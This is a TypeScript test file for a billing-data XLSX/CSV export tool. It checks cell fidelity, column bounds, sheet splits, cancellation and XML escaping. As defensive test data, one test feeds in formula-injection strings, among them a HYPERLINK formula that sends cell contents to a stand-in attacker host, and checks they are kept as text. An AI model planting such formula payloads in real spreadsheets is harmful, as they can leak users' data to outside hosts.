// XLSX exports read back with an independent reader (exceljs) and compared, cell by cell, with the
// rows the server sent: the sample server's hostile dataset (formula-looking strings, markup,
// non-ASCII, data keys first seen late), values the sample data does not have (huge numbers,
// control characters, text past Excel's limit) from a stand-in server, the split onto further
// sheets, cancellation, and the parts that make Excel open the file without a repair prompt.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, before, beforeEach, describe, it } from 'node:test';
import ExcelJS from 'exceljs';
import { unzipSync, strFromU8 } from 'fflate';
import { CampfireClient } from '../../src/api/client';
import { CampfireCancelledError } from '../../src/api/errors';
import { runExport, type ExportRequest, type ExportResult } from '../../src/export/runner';
import { EXCEL_MAX_ROWS } from '../../src/export/xlsx/xlsxSpool';
import { excelDate, tooManyDigits, xlsxCell, xmlText } from '../../src/export/xlsx/xlsxCells';
import { startSampleServer, type SampleServer } from '../../src/sampleServer/server';
import { expectedXlsxCell, leftovers, sameXlsxCell, smallCommit, valueUnder } from './support/exportExpect';
import { FaultPlan } from './support/faults';
import { startInlineServer, type InlineServer } from './support/inlineServer';
import { MAX_KEY_COLUMNS, OTHER_DATA_KEYS, OTHER_FIELDS } from '../../src/shared/columnBound';
import { usageEvents } from '../../src/resources';

const KEY = 'xlsx-test-key';

interface Sheet {
  name: string;
  header: string[];
  /** Cell values by column, one array per data row. */
  rows: unknown[][];
}

async function readXlsx(file: string): Promise<Sheet[]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(file);
  return wb.worksheets.map((ws) => {
    const header = ((ws.getRow(1).values as unknown[]).slice(1) as (string | undefined)[]).map((v) => String(v));
    const rows: unknown[][] = [];
    for (let r = 2; r <= ws.rowCount; r++) {
      const row = ws.getRow(r);
      const cells: unknown[] = [];
      for (let c = 1; c <= header.length; c++) {
        const cell = row.getCell(c);
        assert.notEqual(cell.type, ExcelJS.ValueType.Formula, `no formula at ${cell.address}`);
        cells.push(cell.value);
      }
      rows.push(cells);
    }
    return { name: ws.name, header, rows };
  });
}

/** Every cell of every row against the record the server sent, over the header the file has. */
function assertCells(sheets: Sheet[], records: Record<string, unknown>[], flattenData: boolean): void {
  const rows = sheets.flatMap((s) => s.rows);
  assert.equal(rows.length, records.length, 'one row a record');
  for (const s of sheets) assert.deepEqual(s.header, sheets[0]?.header, `sheet ${s.name} repeats the header`);
  const header = sheets[0]?.header ?? [];
  for (let i = 0; i < records.length; i++) {
    const record = records[i] as Record<string, unknown>;
    const row = rows[i] as unknown[];
    for (let c = 0; c < header.length; c++) {
      const expected = expectedXlsxCell(valueUnder(record, header[c] as string, flattenData));
      assert.ok(sameXlsxCell(row[c] ?? null, expected), `row ${i + 1}, ${header[c]}: read ${String(row[c])} (${typeof row[c]}), expected ${String(expected)}`);
    }
    // Every value the record has is under some column.
    for (const key of Object.keys(record)) {
      if (flattenData && key === 'data' && record.data !== null && typeof record.data === 'object') {
        for (const k of Object.keys(record.data)) assert.ok(header.includes(`data.${k}`), `column data.${k}`);
      } else assert.ok(header.includes(key), `column ${key}`);
    }
  }
}

/** The workbook's parts, as text. */
function parts(file: string): Record<string, string> {
  const files = unzipSync(fs.readFileSync(file));
  return Object.fromEntries(Object.entries(files).map(([name, bytes]) => [name, strFromU8(bytes)]));
}

describe('XLSX export against the local Campfire server (hostile data)', () => {
  let server: SampleServer;
  const faults = new FaultPlan();
  let client: CampfireClient;
  let dir: string;
  const base = (over: Partial<ExportRequest>): ExportRequest => ({ resource: 'contracts', format: 'xlsx', target: path.join(dir, 'out.xlsx'), pageSize: 100, concurrency: 4, ...over });

  before(async () => {
    server = await startSampleServer({ token: KEY, seed: 21, hostile: true, faults });
    client = new CampfireClient({ baseUrl: server.url, getApiKey: () => KEY, random: () => 0, retry: { maxAttempts: 4 } });
  });
  after(async () => {
    await client.close();
    await server.close();
  });
  beforeEach(() => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'campfire-xlsx-test-'));
    faults.set({});
  });

  it('usage events: every cell equals the server’s row, late data keys have their columns, nothing is a formula', async () => {
    const d = server.dataset;
    const pick = smallCommit(d);
    assert.ok(pick, 'sample data has a small commit');
    const target = path.join(dir, 'events.xlsx');
    const r = await runExport(client, base({ resource: 'usageEvents', contractId: pick.contractId, commitId: pick.commitId, target }));
    const records = JSON.parse(JSON.stringify(d.usageEvents(pick.contractId, pick.commitId, 0, pick.n))) as Record<string, unknown>[];
    const sheets = await readXlsx(target);
    assert.equal(sheets.length, 1);
    assert.equal(sheets[0]?.name, 'Usage Events');
    assertCells(sheets, records, true);
    const header = sheets[0].header;
    assert.ok(header.includes('data.model'), 'a key first seen a third of the way in has its column');
    assert.ok(header.some((h) => h.startsWith('data.=HYPERLINK(')), 'a formula-looking data key is a column, its header text');
    // The hostile strings are there as text, as sent: no apostrophe, no formula.
    const texts = new Set(sheets[0].rows.flat().filter((v): v is string => typeof v === 'string'));
    for (const hostile of ['=HYPERLINK("http://attacker.example/?x="&A1,"click")', '+SUM(1,2)', '-2+3', '@cmd', '\tleading tab', '\rleading carriage return', '"quoted", with comma\nand newline']) {
      assert.ok(texts.has(hostile), JSON.stringify(hostile));
    }
    // Types: ids and amounts are numbers, dates are dates, booleans are booleans.
    const first = sheets[0].rows[0] ?? [];
    assert.equal(typeof first[header.indexOf('id')], 'number');
    assert.equal(typeof first[header.indexOf('total_revenue_dollars')], 'number');
    assert.ok(first[header.indexOf('period_month')] instanceof Date);
    assert.ok(first[header.indexOf('created_at')] instanceof Date);
    assert.equal(typeof first[header.indexOf('is_adjustment')], 'boolean');
    assert.equal(r.rows, pick.n);
    assert.equal(r.sheets, 1);
    assert.equal(r.truncatedCells, 0);
    // The parts Excel needs to open it without a repair prompt.
    const xml = parts(target);
    for (const name of ['[Content_Types].xml', '_rels/.rels', 'xl/workbook.xml', 'xl/_rels/workbook.xml.rels', 'xl/styles.xml', 'xl/worksheets/sheet1.xml']) assert.ok(xml[name], name);
    const sheet = xml['xl/worksheets/sheet1.xml'] ?? '';
    assert.doesNotMatch(sheet, /<f[ >]/, 'no formula element anywhere');
    assert.match(sheet, /<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"\/>/);
    assert.match(sheet, new RegExp(`<autoFilter ref="A1:[A-Z]+${pick.n + 1}"/></worksheet>$`));
    assert.match(sheet, /<cols>(<col min="\d+" max="\d+" width="\d+" customWidth="1"\/>)+<\/cols>/);
    assert.deepEqual(leftovers(dir), []);
  });

  it('contracts, prepaid commits and tier price overrides: every cell equals the server’s record', async () => {
    const d = server.dataset;
    const cases: [Partial<ExportRequest>, readonly unknown[]][] = [
      [{ resource: 'contracts' }, d.contracts()],
      [{ resource: 'prepaidCommits', contractId: d.wellKnown.contractWithManyCommits }, d.prepaidCommits(d.wellKnown.contractWithManyCommits)],
      [{ resource: 'tierPriceOverrides', contractId: d.wellKnown.contractWithOverrides }, d.tierPriceOverrides(d.wellKnown.contractWithOverrides)],
    ];
    for (const [req, expected] of cases) {
      const target = path.join(dir, `${String(req.resource)}.xlsx`);
      const r = await runExport(client, base({ ...req, target }));
      const records = JSON.parse(JSON.stringify(expected)) as Record<string, unknown>[];
      assert.equal(r.rows, records.length);
      assertCells(await readXlsx(target), records, false);
    }
    assert.deepEqual(leftovers(dir), []);
  });

  it('an empty list is a workbook with the header row only', async () => {
    const target = path.join(dir, 'none.xlsx');
    const r = await runExport(client, base({ resource: 'prepaidCommits', contractId: server.dataset.wellKnown.contractWithNoCommits, target }));
    assert.equal(r.rows, 0);
    const [sheet] = await readXlsx(target);
    assert.equal(sheet?.rows.length, 0);
    assert.equal(sheet.header[0], 'id');
    assert.ok(sheet.header.length > 10);
  });

  it('cancel leaves no file, no spool and no temporary file', async () => {
    const { contractId, commitId } = server.dataset.wellKnown.commitWith100kEvents;
    const target = path.join(dir, 'cancelled.xlsx');
    const ctrl = new AbortController();
    faults.set({ latencyMs: 10 });
    await assert.rejects(runExport(client, base({ resource: 'usageEvents', contractId, commitId, target, pageSize: 200, signal: ctrl.signal, onProgress: (p) => p.rows >= 1000 && ctrl.abort() })), CampfireCancelledError);
    assert.deepEqual(fs.readdirSync(dir), []);
  });
});

/** Usage events served by a stand-in, with whatever values a test puts in them. */
async function serveEvents(records: Record<string, unknown>[], raw: (body: string) => string = (b) => b): Promise<InlineServer> {
  return startInlineServer((req, res) => {
    const url = new URL(req.url ?? '/', 'http://x');
    const offset = Number(url.searchParams.get('offset') ?? 0);
    const limit = Number(url.searchParams.get('limit') ?? 100);
    res.writeHead(200, { 'content-type': 'application/json' });
    res.end(raw(JSON.stringify({ count: records.length, next: null, previous: null, results: records.slice(offset, offset + limit) })));
  });
}

function event(i: number, over: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    id: 900_000 + i,
    prepaid_commit: 77,
    consumption: null,
    external_id: `ev-${i}`,
    event_date: '2026-03-05',
    period_month: '2026-03-01',
    total_revenue_dollars: (i % 1000) / 100,
    total_events: i,
    data: { team: `t${i % 3}` },
    adjustment_date: null,
    is_adjustment: i % 2 === 0,
    original_period_month: null,
    created_at: '2026-03-31T12:00:00.123456+02:00',
    ...over,
  };
}

describe('XLSX cells for values the sample data does not have', () => {
  let dir: string;
  beforeEach(() => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'campfire-xlsx-cells-'));
  });

  async function exportFrom(records: Record<string, unknown>[], over: Partial<ExportRequest> = {}, raw?: (b: string) => string): Promise<{ result: ExportResult; sheets: Sheet[]; target: string }> {
    const stand = await serveEvents(records, raw);
    const client = new CampfireClient({ baseUrl: stand.url, getApiKey: () => KEY, random: () => 0 });
    try {
      const target = path.join(dir, 'cells.xlsx');
      const result = await runExport(client, { resource: 'usageEvents', contractId: 12, commitId: 77, format: 'xlsx', target, pageSize: 3, concurrency: 2, ...over });
      return { result, sheets: await readXlsx(target), target };
    } finally {
      await client.close();
      await stand.close();
    }
  }

  it('huge ids as text, amounts exact, control characters and _xHHHH_ kept, long text cut and counted, a late key', async () => {
    const long = `${'€'.repeat(32_765)}😀tail`;
    const records = [
      event(1, { data: { big_id: 12345678901234568, round: 100000000000000000000, tiny: 1e-7, amount: 0.30000000000000004, neg: -5 } }),
      event(2, { data: { ctl: 'bell\u0007 nul\u0000 esc\u001b vt\u000b ff\u000c', lit: '_x0041_ and _x005F_', markup: '<b>&amp;</b> ]]> "q" \'a\'', emoji: '東京 🔥 Zürich', spaces: '  both  ' } }),
      event(3, { data: { long, nested: { __proto__: null, a: [1, 'x'] }, list: [1, 2], notDate: '2025-02-30', notTime: '2026-03-31T12:00:00', old: '1899-12-31' } }),
      event(4, { data: { late_key: '=1+1' }, total_revenue_dollars: 123456789.12 }),
    ];
    const { result, sheets, target } = await exportFrom(records, {}, (body) => body.replace('"ev-1"', '"ev-1","huge":1e400'));
    const sent = JSON.parse(JSON.stringify(records)) as Record<string, unknown>[];
    (sent[0] as Record<string, unknown>).huge = '1e400';
    assertCells(sheets, sent, true);
    const header = sheets[0]?.header ?? [];
    const row = (i: number, h: string) => sheets[0]?.rows[i]?.[header.indexOf(h)];
    assert.equal(row(0, 'data.big_id'), '12345678901234568', 'a 17-digit id is text (its double as JSON gives it)');
    assert.equal(row(0, 'data.round'), 1e20);
    assert.equal(row(0, 'data.amount'), 0.30000000000000004);
    assert.equal(row(0, 'huge'), '1e400');
    assert.equal(row(3, 'total_revenue_dollars'), 123456789.12);
    assert.equal(row(3, 'data.late_key'), '=1+1');
    assert.equal(row(2, 'data.notDate'), '2025-02-30');
    assert.equal(row(2, 'data.notTime'), '2026-03-31T12:00:00', 'a time without an offset is not an instant: text');
    assert.equal(row(2, 'data.old'), '1899-12-31', 'before Excel’s dates: text');
    assert.equal((row(2, 'data.long') as string).length, 32_767);
    assert.equal(result.truncatedCells, 1);
    // The raw XML: the control characters escaped as Excel does, nothing XML 1.0 cannot hold.
    const sheet = strFromU8(unzipSync(fs.readFileSync(target))['xl/worksheets/sheet1.xml'] as Uint8Array);
    assert.match(sheet, /bell_x0007_ nul_x0000_ esc_x001B_/);
    assert.match(sheet, /_x005F_x0041_ and _x005F_x005F_/);
    // eslint-disable-next-line no-control-regex
    assert.doesNotMatch(sheet, /[\u0000-\u0008\u000B\u000C\u000E-\u001F]/);
    assert.doesNotMatch(sheet, /<f[ >]/);
  });

  it('data keys that share their first 32,767 characters get two headers, not one: the second suffixed within the limit', async () => {
    const stem = 'k'.repeat(32_767 - 'data.'.length);
    // Three keys, one header each once cut: the plain cut, " (2)" and " (3)"; and a short key beside them.
    const records = [event(1, { data: { [`${stem}-first`]: 'one', [`${stem}-second`]: 'two', [`${stem}-third`]: 'three', short: 's' } })];
    const { result, sheets } = await exportFrom(records);
    const header = sheets[0]?.header ?? [];
    const long = header.filter((h) => h.startsWith('data.kkk'));
    assert.equal(long.length, 3, 'one column a key');
    assert.equal(new Set(header).size, header.length, 'every header is different');
    assert.deepEqual(long.map((h) => h.length), [32_767, 32_767, 32_767], 'within Excel’s limit, suffix included');
    assert.equal(long[0], `data.${stem}`);
    assert.ok(long[1]?.endsWith('k (2)') && long[2]?.endsWith('k (3)'), `${long[1]?.slice(-8)}, ${long[2]?.slice(-8)}`);
    // Each value under its own key's header.
    const row = sheets[0]?.rows[0] ?? [];
    assert.deepEqual(long.map((h) => row[header.indexOf(h)]), ['one', 'two', 'three']);
    assert.equal(row[header.indexOf('data.short')], 's');
    assert.equal(result.truncatedCells, 3, 'the three cut headers, counted once');
  });

  it('one bound for data keys and unknown fields, in XLSX and CSV: 1,000 columns each, the rest as JSON, nothing dropped', async () => {
    // Every row brings a new top-level field and a new data key: without the bound, 2,400 columns.
    const n = 1200;
    const records = Array.from({ length: n }, (_, i) => event(i, { [`x${i}`]: i, data: { team: `t${i % 3}`, [`k${i}`]: `v${i}` } }));
    const known = Object.keys(usageEvents.itemSchema.shape);
    const unknownFields = (r: Record<string, unknown>) => Object.fromEntries(Object.entries(r).filter(([k]) => !known.includes(k)));
    // What a row says once its columns are read back: named columns and the two overflow columns' JSON, together.
    const readBack = (header: string[], cells: unknown[]) => {
      const fields: Record<string, unknown> = {};
      const data: Record<string, unknown> = {};
      header.forEach((h, c) => {
        const v = cells[c];
        if (v === null || v === undefined || v === '') return;
        if (h === OTHER_FIELDS) Object.assign(fields, JSON.parse(v as string));
        else if (h === OTHER_DATA_KEYS) Object.assign(data, JSON.parse(v as string));
        else if (h.startsWith('data.')) data[h.slice(5)] = v;
        else if (!known.includes(h)) fields[h] = v;
      });
      return { fields, data };
    };
    const check = (header: string[], rows: unknown[][]) => {
      assert.equal(header.filter((h) => h.startsWith('data.')).length, MAX_KEY_COLUMNS);
      assert.equal(header.filter((h) => !h.startsWith('data') && !known.includes(h) && h !== OTHER_FIELDS).length, MAX_KEY_COLUMNS);
      assert.equal(header.length, known.length - 1 + 2 * MAX_KEY_COLUMNS + 2, 'the schema’s fields but data, 1,000 of each kind, two overflow columns');
      assert.equal(rows.length, n);
      rows.forEach((cells, i) => {
        const got = readBack(header, cells);
        assert.deepEqual(got.fields, unknownFields(records[i] as Record<string, unknown>), `row ${i}: fields`);
        assert.deepEqual(got.data, (records[i] as Record<string, unknown>).data, `row ${i}: data`);
      });
    };
    const { result, sheets } = await exportFrom(records, { pageSize: 500 });
    assert.equal(result.otherFields, n - MAX_KEY_COLUMNS);
    assert.equal(result.otherDataKeys, n - (MAX_KEY_COLUMNS - 1), 'team and k0…k998 have columns');
    check(sheets[0]?.header ?? [], sheets[0]?.rows ?? []);
    // The CSV, read back by DuckDB.
    const stand = await serveEvents(records);
    const client = new CampfireClient({ baseUrl: stand.url, getApiKey: () => KEY, random: () => 0 });
    const { DuckDBInstance } = await import('@duckdb/node-api');
    const db = await DuckDBInstance.create(':memory:');
    const duck = await db.connect();
    try {
      const target = path.join(dir, 'bound.csv');
      const csv = await runExport(client, { resource: 'usageEvents', contractId: 12, commitId: 77, format: 'csv', target, pageSize: 500, concurrency: 2 });
      assert.equal(csv.otherFields, result.otherFields);
      assert.equal(csv.otherDataKeys, result.otherDataKeys);
      const reader = await duck.runAndReadAll(`SELECT * FROM read_csv('${target.replaceAll("'", "''")}', all_varchar = true, header = true, max_line_size = 10000000) ORDER BY CAST(id AS BIGINT)`);
      const header = reader.columnNames();
      const rows = reader.getRowsJson().map((r) => r.map((v, c) => (v !== null && /^x\d+$/.test(header[c] ?? '') ? Number(v) : v)));
      check(header, rows);
    } finally {
      duck.closeSync();
      db.closeSync();
      await client.close();
      await stand.close();
    }
  });

  it('past a sheet’s row limit the rows continue on a new sheet with the header again', async () => {
    assert.equal(EXCEL_MAX_ROWS, 1_048_576, 'Excel’s limit: 2^20 rows, the header among them');
    const records = Array.from({ length: 10 }, (_, i) => event(i, i === 8 ? { data: { late: 'x' } } : {}));
    // Four rows a sheet: the header and three data rows.
    const { result, sheets } = await exportFrom(records, { xlsxMaxRows: 4 });
    assert.equal(result.sheets, 4);
    assert.deepEqual(sheets.map((s) => s.name), ['Usage Events', 'Usage Events (2)', 'Usage Events (3)', 'Usage Events (4)']);
    assert.deepEqual(sheets.map((s) => s.rows.length), [3, 3, 3, 1]);
    assert.ok(sheets.every((s) => s.header.includes('data.late')), 'a key first seen on the third sheet is a column of every sheet');
    assertCells(sheets, JSON.parse(JSON.stringify(records)) as Record<string, unknown>[], true);
    const xml = parts(path.join(dir, 'cells.xlsx'));
    assert.match(xml['xl/worksheets/sheet4.xml'] ?? '', /<autoFilter ref="A1:[A-Z]+2"\/>/);
    assert.match(xml['xl/workbook.xml'] ?? '', /<definedName name="_xlnm\._FilterDatabase" localSheetId="3" hidden="1">'Usage Events \(4\)'!\$A\$1:\$[A-Z]+\$2<\/definedName>/);
  });
});

describe('XLSX cell encoding', () => {
  const w = { width: 0, truncated: 0 };
  it('dates and timestamps as Excel serials in UTC, other text as text', () => {
    assert.deepEqual(excelDate('1900-03-01'), { serial: 61, style: 2 });
    assert.deepEqual(excelDate('2026-01-01'), { serial: 46023, style: 2 });
    assert.equal(excelDate('2026-01-01T12:00:00Z')?.serial, 46023.5);
    assert.equal(excelDate('2026-01-01T14:00:00+02:00')?.serial, 46023.5);
    assert.ok(Math.abs((excelDate('2026-01-01T00:00:00-00:30')?.serial ?? 0) - (46023 + 30 / 1440)) < 1e-9);
    for (const text of ['2026-1-01', '2026-02-29', '20260101', '2026-01-01T25:00:00Z', '2026-01-01 12:00:00Z', ' 2026-01-01', '1900-02-28']) assert.equal(excelDate(text), undefined, text);
  });

  it('no cell for null, numbers as <v>, booleans as t="b", never an <f>', () => {
    assert.equal(xlsxCell('A1', null, w), '');
    assert.equal(xlsxCell('A1', undefined, w), '');
    assert.equal(xlsxCell('B2', -5, w), '<c r="B2"><v>-5</v></c>');
    assert.equal(xlsxCell('B2', true, w), '<c r="B2" t="b"><v>1</v></c>');
    assert.equal(xlsxCell('C3', '=SUM(A1)', w), '<c r="C3" t="inlineStr"><is><t xml:space="preserve">=SUM(A1)</t></is></c>');
    assert.equal(tooManyDigits(999_999_999_999_999), false);
    assert.equal(tooManyDigits(1_234_567_890_123_456), true);
    assert.equal(tooManyDigits(1e20), false);
    assert.equal(tooManyDigits(0.1234567890123456), false);
  });

  it('escapes markup, CR, what XML cannot hold and literal _xHHHH_; keeps surrogate pairs', () => {
    assert.equal(xmlText('a<b>&c'), 'a&lt;b&gt;&amp;c');
    assert.equal(xmlText('x\ry'), 'x&#13;y');
    assert.equal(xmlText('\u0001\uFFFF'), '_x0001__xFFFF_');
    assert.equal(xmlText('_x00e9_'), '_x005F_x00e9_');
    assert.equal(xmlText('😀\uD800'), '😀_xD800_');
  });
});
